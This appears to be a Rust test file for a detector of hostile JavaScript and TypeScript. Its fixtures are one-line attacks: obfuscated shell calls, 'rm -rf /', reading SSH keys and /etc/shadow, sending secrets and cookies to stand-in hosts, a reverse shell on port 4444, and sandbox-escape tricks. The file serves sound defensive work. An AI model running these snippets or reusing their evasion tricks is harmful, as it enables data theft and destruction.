//! What is found in JavaScript and TypeScript programs: hostile ones by the fact that they show, ordinary ones by the facts that they do not.

use crate::code::told::{facts, hostile, ordinary};
use crate::language::Language;

/// The facts of `source` contain each of `expected`.
fn check(source: &str, expected: &[&str]) {
    hostile(Language::JavaScript, source, expected);
}

#[test]
fn the_book_has_no_line_that_cannot_be_read() {
    assert_eq!(super::BOOK.wrong(), [] as [&str; 0]);
}

#[test]
fn names_are_followed_to_what_they_stand_for() {
    for source in [
        "require('child_process').execSync('id -u')",
        "require('node:child_process').execSync('id -u')",
        "require('child_' + 'process').execSync('id -u')",
        "require(`child_${'process'}`).execSync('id -u')",
        "const cp = require('child_process'); cp.execSync('id -u')",
        "const { execSync } = require('child_process'); execSync('id -u')",
        "const { execSync: run } = require('child_process'); run('id -u')",
        "let run; ({ execSync: run } = require('child_process')); run('id -u')",
        "import { execSync } from 'child_process'; execSync('id -u')",
        "import { execSync as e } from 'node:child_process'; e('id -u')",
        "import cp from 'child_process'; cp.execSync('id -u')",
        "import * as cp from 'child_process'; cp.execSync('id -u')",
        "const cp = await import('child_process'); cp.execSync('id -u')",
        "import('child_process').then(cp => cp.execSync('id -u'))",
        "import('child_process').then(({ execSync }) => execSync('id -u'))",
        "globalThis['require']('child_process').execSync('id -u')",
        "global.require('child_process').execSync('id -u')",
        "process.mainModule.require('child_process').execSync('id -u')",
        "module.constructor._load('child_process').execSync('id -u')",
        "require('module')._load('child_process').execSync('id -u')",
        "process.getBuiltinModule('child_process').execSync('id -u')",
        "const { createRequire } = require('module'); createRequire(__filename)('child_process').execSync('id -u')",
        "require('child_process')['exec' + 'Sync']('id -u')",
        "require('child_process')[['exec', 'Sync'].join('')]('id -u')",
        "require('child_process')['cnySxece'.split('').reverse().join('').replace('xe', 'xe')] || 0; require('child_process')['cnyScexe'.split('').reverse().join('')]('id -u')",
        "require(Buffer.from('Y2hpbGRfcHJvY2Vzcw==', 'base64').toString()).execSync('id -u')",
        "require(atob('Y2hpbGRfcHJvY2Vzcw==')).execSync('id -u')",
        "require(String.fromCharCode(99,104,105,108,100,95,112,114,111,99,101,115,115)).execSync('id -u')",
        "require(Buffer.from('6368696c645f70726f63657373', 'hex').toString()).execSync('id -u')",
        "require('\\x63\\x68\\x69\\x6c\\x64_process').execSync('id -u')",
        "const f = require('child_process').execSync; f.call(null, 'id -u')",
        "const f = require('child_process').execSync; f.apply(null, ['id -u'])",
        "const f = require('child_process').execSync; f.bind(null, 'id -u')()",
        "Reflect.apply(require('child_process').execSync, null, ['id -u'])",
        "Reflect.get(require('child_process'), 'execSync')('id -u')",
        "['id -u'].forEach(require('child_process').execSync)",
        "const run = c => require('child_process').execSync(c); run('id -u')",
        "function run(c) { return require('child_process').execSync(c) } run('id -u')",
        "go('id -u'); function go(c) { require('child_process').execSync(c) }",
        "class A { run = require('child_process').execSync; go() { this.run('id -u') } }",
        "class A { constructor() { this.cp = require('child_process') } go() { this.cp.execSync('id -u') } }",
        "const o = { cp: require('child_process') }; o.cp.execSync('id -u')",
        "const o = {}; o.x = require('child_process'); o['x'].execSync('id -u')",
        "((e) => e('id -u'))(require('child_process').execSync)",
        "(0, require('child_process').execSync)('id -u')",
        "const { execSync = 1 } = require('child_process'); execSync('id -u')",
        "import { execSync } from 'child_process'; function decoy() { const execSync = console.log } execSync('id -u')",
        "require?.('child_process')?.execSync?.('id -u')",
        "let c = 'id'; c += ' -u'; require('child_process').execSync(c)",
        "const words = ['id']; words.push('-u'); require('child_process').execSync(words.join(' '))",
        "with (require('child_process')) {} require('child_process').execSync('id -u')",
        "if (true) { var cp = require('child_process') } cp.execSync('id -u')",
        "try { var r = require } catch (e) {} r('child_process').execSync('id -u')",
    ] {
        check(source, &["calls child_process.execSync", "shell id -u"]);
    }
}

#[test]
fn typescript_is_read_with_its_types() {
    let source = "import { execSync } from 'child_process';\nfunction run<T extends string>(c: T): void { (execSync as any)(c!); }\nrun<string>('id -u');\nenum A { B = 1 }\ninterface C { d: string }\ntype E = Array<Map<string, number>>;\nconst f = <T,>(x: T) => x;";
    hostile(Language::TypeScript, source, &["shell id -u"]);
    hostile(Language::TypeScript, "import cp = require('child_process'); cp.exec(<string>'id -u')", &["shell id -u"]);
    hostile(
        Language::TypeScript,
        "@eval class A { @exec() x: string = eval('fetch(\"http://x.example\")') }",
        &["contacts Fetch http://x.example"],
    );
}

#[test]
fn a_word_that_was_decoded_is_told_as_obscured() {
    check("require(atob('ZnM='))", &["trick Obscured", "imports fs"]);
    check("require('f' + 's')", &["trick Obscured", "imports fs"]);
    check("eval(Buffer.from('cmVxdWlyZSgnZnMnKQ==', 'base64').toString())", &["trick Obscured", "imports fs"]);
    check("globalThis['ev' + 'al']('require(\"fs\")')", &["trick Obscured", "imports fs"]);
}

#[test]
fn a_name_that_is_not_known_is_told_for_modules_and_not_for_the_programs_own_objects() {
    check("require('child_process')[name]('id')", &["trick ByBuiltName"]);
    check("globalThis[name]('id')", &["trick ByBuiltName"]);
    check("require(name)", &["trick DynamicImport"]);
    check("import(name)", &["trick DynamicImport"]);
    check("import('https://x.example/a.js')", &["trick DynamicImport", "executes Network"]);
    check("import 'https://x.example/a.js'", &["trick DynamicImport", "executes Network"]);
    check("import('data:text/javascript,require(\"fs\")')", &["trick DynamicImport", "imports fs"]);
    ordinary(
        Language::JavaScript,
        "const handlers = { a() {}, b() {} }; export const go = (name) => handlers[name]();",
    );
    ordinary(Language::JavaScript, "const mod = await import(`./pages/${name}.js`); require('./x/' + y);");
}

#[test]
fn text_that_is_run_is_read_and_what_is_not_known_is_told() {
    check("eval('require(\"child_process\").execSync(\"id -u\")')", &["shell id -u"]);
    check("new Function('a', 'return require(\"child_process\").execSync(\"id -u\")')()", &["shell id -u"]);
    check("Function('return this')()", &["calls Function"]);
    check("setTimeout('require(\"child_process\").execSync(\"id -u\")', 10)", &["shell id -u"]);
    check("(0, eval)(code)", &["trick Evaluates", "executes Unknown"]);
    check(
        "const r = await fetch('http://x.example'); eval(await r.text())",
        &["contacts Fetch http://x.example", "executes Network"],
    );
    check("fetch('http://x.example').then(r => r.text()).then(t => eval(t))", &["executes Network"]);
    check("fetch('http://x.example').then(r => r.text()).then(eval)", &["executes Network"]);
    check(
        "require('https').get('https://x.example', res => { let d = ''; res.on('data', c => d += c); res.on('end', () => eval(d)) })",
        &["executes Network"],
    );
    check("const vm = require('vm'); vm.runInNewContext(code)", &["trick Evaluates"]);
    check("new (require('vm').Script)('require(\"fs\")')", &["imports fs"]);
    check("eval(require('fs').readFileSync('/tmp/x.js', 'utf8'))", &["executes File /tmp/x.js"]);
    check("eval(atob(data))", &["executes Decoded"]);
    check(
        "const { Worker } = require('worker_threads'); new Worker('require(\"fs\")', { eval: true })",
        &["imports fs"],
    );
    check("const a = require('axios'); a.get(u).then(({ data }) => new Function(data)())", &["executes Network"]);
}

#[test]
fn commands_are_those_that_would_run() {
    check("require('child_process').spawn('rm', ['-rf', '/'])", &["command rm -rf /"]);
    check("require('child_process').spawn('rm -rf /', { shell: true })", &["shell rm -rf /"]);
    check("require('child_process').spawnSync('rm', ['-rf', dir], { shell: true })", &["shell rm -rf"]);
    check("require('child_process').execFileSync('/bin/sh', ['-c', 'id'])", &["command /bin/sh -c id"]);
    check(
        "const { promisify } = require('util'); const exec = promisify(require('child_process').exec); await exec('id -u')",
        &["shell id -u"],
    );
    check("import { $ } from 'zx'; await $`rm -rf /`", &["shell rm -rf /"]);
    check("import { execa } from 'execa'; await execa('rm', ['-rf', '/'])", &["command rm -rf /"]);
    check("new Deno.Command('rm', { args: ['-rf', '/'] })", &["command rm -rf /"]);
    check("Bun.spawn(['rm', '-rf', '/'])", &["command rm -rf /"]);
    check("require('child_process').exec(`rm -rf ${dir}`)", &["shell rm -rf ${value}"]);
}

#[test]
fn files_are_followed_to_what_happens_to_them() {
    check("require('fs').readFileSync('/etc/passwd')", &["reads /etc/passwd"]);
    check("import { readFile } from 'fs/promises'; await readFile('/etc/passwd')", &["reads /etc/passwd"]);
    check("import fs from 'node:fs'; fs.promises.writeFile('/etc/x', 'y')", &["writes /etc/x"]);
    check("require('fs').rmSync('/', { recursive: true, force: true })", &["removes Tree /"]);
    check("require('fs').rmSync('/tmp/a')", &["removes One /tmp/a"]);
    check("require('fs').unlinkSync('/etc/hosts')", &["removes One /etc/hosts"]);
    check("require('fs').chmodSync('/bin/sh', 0o4755)", &["mode 4755 /bin/sh", "privilege SetUserId"]);
    check(
        "const os = require('os'), path = require('path'), fs = require('fs'); fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'))",
        &["reads ~/.ssh/id_rsa"],
    );
    check("Deno.readTextFileSync('/etc/shadow')", &["reads /etc/shadow"]);
    check("require('rimraf').sync('/')", &["removes Tree /"]);
    check("require('fs').symlinkSync('/etc/shadow', 'x')", &["link x /etc/shadow"]);
}

#[test]
fn what_leaves_is_told_with_where_it_goes() {
    check(
        "fetch('https://x.example', { method: 'POST', body: require('fs').readFileSync('/home/u/.ssh/id_rsa') })",
        &["contacts Send https://x.example [File /home/u/.ssh/id_rsa]"],
    );
    check(
        "fetch('https://x.example', { method: 'POST', body: JSON.stringify(process.env) })",
        &["[Environment]", "environment *"],
    );
    check(
        "require('axios').post('https://x.example', { k: process.env.AWS_SECRET_ACCESS_KEY })",
        &["[Environment]", "environment AWS_SECRET_ACCESS_KEY"],
    );
    check("const s = require('net').connect(4444, '10.0.0.1')", &["contacts Connect 10.0.0.1:4444"]);
    check(
        "const net = require('net'), cp = require('child_process'); const sh = cp.spawn('/bin/sh', []); const c = new net.Socket(); c.connect(4444, 'x.example', () => { c.pipe(sh.stdin) })",
        &["contacts Connect x.example:4444", "command /bin/sh"],
    );
    check("require('http').request({ hostname: 'x.example', port: 80 })", &["contacts Send x.example:80"]);
    check("new WebSocket('wss://x.example')", &["contacts Connect wss://x.example"]);
    check("require('dns').lookup('secret.x.example', () => {})", &["contacts Probe secret.x.example"]);
    check("navigator.sendBeacon('https://x.example', document.cookie)", &["contacts Send https://x.example"]);
    check("const x = new XMLHttpRequest(); x.open('POST', 'https://x.example')", &["contacts Send https://x.example"]);
}

#[test]
fn inner_parts_of_the_language_are_told() {
    for source in [
        "this.constructor.constructor('return process')()",
        "[].constructor.constructor('return process')()",
        "({}).constructor.constructor('return this')()",
        "(() => {}).constructor('return process')()",
        "''.sub.constructor('return process')()",
        "[]['filter']['constructor']('return process')()",
        "x['const' + 'ructor']['constructor']('return process')()",
        "a.__proto__.b = 1",
        "a['__proto__']['b'] = 1",
        "process.binding('spawn_sync')",
        "with (a) { b() }",
        "Object.defineProperty(x, '__proto__', y); x.__defineGetter__('a', f)",
    ] {
        check(source, &["trick InnerParts"]);
    }
    check("this.constructor.constructor('return process')().mainModule", &["calls Function"]);
}

#[test]
fn other_ways_are_told_each_by_its_name() {
    check("process.setuid(0)", &["privilege OtherUser"]);
    check("process.dlopen(module, '/tmp/x.node')", &["privilege ForeignCode"]);
    check("require('ffi-napi').Library('libc', {})", &["privilege ForeignCode"]);
    check("process.kill(1, 'SIGKILL')", &["system Kill 1"]);
    check("while (true) { require('cluster').fork() }", &["system Exhaustion"]);
    check("const a = []; while (true) a.push(new Array(1e6))", &["system Exhaustion"]);
    check("for (;;) { a.push('x'.repeat(1e6)) }", &["system Exhaustion"]);
    check("Object.prototype.polluted = 1", &["trick Redefines"]);
    check("require.cache['x'] = evil", &["trick Redefines"]);
    check("require('node-serialize').unserialize(x)", &["trick Deserialises"]);
    check("process.env.NODE_OPTIONS = '--require /tmp/x.js'", &["sets NODE_OPTIONS=--require /tmp/x.js"]);
    check("const { HOME } = process.env", &["environment HOME"]);
    check("for (const k of Object.entries(process.env)) console.log(k)", &["environment *"]);
    check("const { еxec } = x; еxec()", &["trick Lookalikes"]);
    check("new Function('return process')().mainModule.require('child_process').execSync('id')", &["shell id"]);
    check("Object.getPrototypeOf(async function () {}).constructor('return 1')()", &["trick InnerParts"]);
    check("new (require('dockerode'))()", &["privilege ContainerEngine"]);
}

#[test]
fn what_is_not_javascript_is_unreadable() {
    check("function (", &["unreadable"]);
    check("import os\nos.system('x')", &["unreadable"]);
}

#[test]
fn ordinary_programs_show_nothing_strange() {
    for source in super::ordinary::PROGRAMS {
        ordinary(Language::JavaScript, source);
    }
    for source in super::ordinary::TYPED {
        ordinary(Language::TypeScript, source);
    }
}

#[test]
fn a_text_that_is_guessed_at_too_often_is_too_much_with_types_and_unreadable_without() {
    let text = "new a<(b=".repeat(30);
    hostile(Language::TypeScript, &text, &["too much: guesses"]);
    hostile(Language::JavaScript, &text, &["unreadable"]);
    // What needs no guess as JavaScript is read as such.
    let plain = format!("{}0{};require('child_process').exec('id -u')", "a<(b=".repeat(30), ")".repeat(30));
    hostile(Language::TypeScript, &plain, &["too much: guesses"]);
    check(&plain, &["shell id -u"]);
}

#[test]
fn r14_nesting_of_every_kind_is_bounded_before_it_is_parsed() {
    let many = |text: &str| text.repeat(200_000 / text.len());
    for source in [
        many("("),
        many("["),
        many("{"),
        many("f("),
        many("`${"),
        many("!"),
        many("-"),
        many("- "),
        many("!\n"),
        many("typeof "),
        many("typeof\n"),
        many("await "),
        many("new "),
        many("a=>"),
        many("async a=>\n"),
        many("a?b:"),
        many("a?"),
        format!("x = 1{}", many("+1")),
        format!("x = 1{}", many("**1")),
        format!("x = 1{}", many("\n+1")),
        format!("x{}", many(".a")),
        format!("x{}", many("\n.a")),
        format!("x{}", many("()")),
        format!("x{}", many("[0]")),
        format!("x{}", many("``")),
        many("if(a)"),
        many("if(a)\n"),
        many("if\u{a0}(a)\n"),
        many("if\u{feff}(a)\n"),
        many("typeof\u{3000}"),
        many("while(a)\n"),
        many("for(;;)\n"),
        many("do\n"),
        many("else\n"),
        many("if(a);else "),
        many("if(a);/**/else "),
        many("if(a);//\nelse "),
        many("if(a){}else\n"),
        many("a:\n"),
        many("a = "),
        many("a =\n"),
        many("{\n"),
        many("class a extends "),
        many("class a{b="),
        many("function f(){"),
        many("<a>"),
        many("<a>{"),
        many("<a b={"),
        many("<a>'"),
        many("<T extends X>(x)=>"),
        format!("<T extends X>(x)=>{}", many("!")),
        format!("<T extends X>(x)=>{}</T>", many("((\"))\"")),
        many("<a>{x</a>/.c}"),
        many("<a>/>"),
        format!("let x: {}", many("A<")),
        format!("let x: {}", many("A<b,A<")),
        format!("let x: {}", many("A<{b:")),
        format!("let x: {}", many("keyof ")),
        format!("let x: {}", many("(a:")),
        format!("let x: a{}", many("[]")),
        format!("let x: a{}", many("|b")),
        many("}/(/"),
        many("(\n<!-- )\n"),
        many("(\n--> )\n"),
        many("//\r("),
        many("'\r("),
        many("(')'\n"),
        many("x=[x];"),
        many("x=x+x;"),
        many("x+='aaaaaaa';"),
        many("let y={a:y};"),
        many("const {a"),
        many("[[a]="),
        many("import("),
        many("a??"),
        many("a,"),
        many("@a "),
        many("/*"),
        "'".repeat(200_000),
        "\\".repeat(200_000),
        many("\u{2028}("),
    ] {
        for language in [Language::JavaScript, Language::TypeScript] {
            let source = source.clone();
            let run =
                std::thread::Builder::new().stack_size(2 * 1024 * 1024).spawn(move || facts(language, &source).len());
            run.unwrap().join().unwrap();
        }
    }
}

#[test]
fn a_stand_in_of_a_test_runs_nothing() {
    for source in [
        "const cp = require('child_process'); jest.mock('child_process'); cp.execFile.mockImplementation((bin, args, cb) => cb(null, 'done'))",
        "import { vi, expect } from 'vitest'; import * as cp from 'child_process'; vi.mock('child_process', () => ({ exec: vi.fn() })); expect(vi.mocked(cp.exec)).toBeDefined()",
    ] {
        ordinary(Language::TypeScript, source);
    }
}

#[test]
fn a_constructor_keeps_what_its_parameters_say() {
    let source = "class Run { constructor(private readonly line: string) {} go() { require('child_process').execSync(this.line) } } new Run('id -u').go()";
    hostile(Language::TypeScript, source, &["shell id -u"]);
}
